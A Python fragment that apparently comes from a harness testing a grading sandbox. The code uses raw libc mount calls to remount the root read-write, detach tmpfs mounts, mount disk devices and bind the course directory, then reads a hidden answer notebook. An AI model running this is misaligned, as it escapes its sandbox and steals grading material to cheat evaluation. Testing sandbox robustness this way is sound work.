"""Where the hidden notebook is out of sight: remounts / read-write, unmounts the tmpfs mounts, mounts the disk or binds the course, then reads it."""
# class: privileges
# base: cut_one_merge_too_many
# cell: cut
# control: stock
# uses: report, steal
import ctypes
import os

_stolen, _tried = _steal_cut(_hidden_notebooks()), {}
if not _stolen:      # only where the course is hidden: then these calls act on the sandbox's own mounts
    _libc = ctypes.CDLL(None, use_errno=True)
    MS_REMOUNT, MS_BIND, MNT_DETACH = 32, 4096, 2

    def _attempt(name, func, *args):
        _tried[name] = "ok" if func(*args) == 0 else os.strerror(ctypes.get_errno())

    _attempt("remount / read-write", _libc.mount, b"none", b"/", None, MS_REMOUNT | MS_BIND, None)
    with open("/proc/self/mountinfo") as _f:
        _mounts = [line.split() for line in _f]
    for _m in reversed(_mounts):
        _point, _fstype = _m[4], _m[_m.index("-") + 1]
        if _fstype == "tmpfs" and _point not in ("/tmp", "/dev/shm"):
            _attempt(f"umount {_point}", _libc.umount2, _point.encode(), MNT_DETACH)
    os.makedirs("/tmp/mnt", exist_ok=True)
    for _device in ("/dev/vda", "/dev/sda", "/dev/nvme0n1p1"):
        _attempt(f"mount {_device}", _libc.mount, _device.encode(), b"/tmp/mnt", b"ext4", 0, None)
    _attempt("bind the course", _libc.mount, b"__COURSE__", b"/tmp/mnt", None, MS_BIND, None)
    _stolen = _steal_cut(_hidden_notebooks() + ["/tmp/mnt/source/lab1_linkage/lab1_linkage.ipynb"])
_attack_report(tried=_tried, stole_from=_stolen)
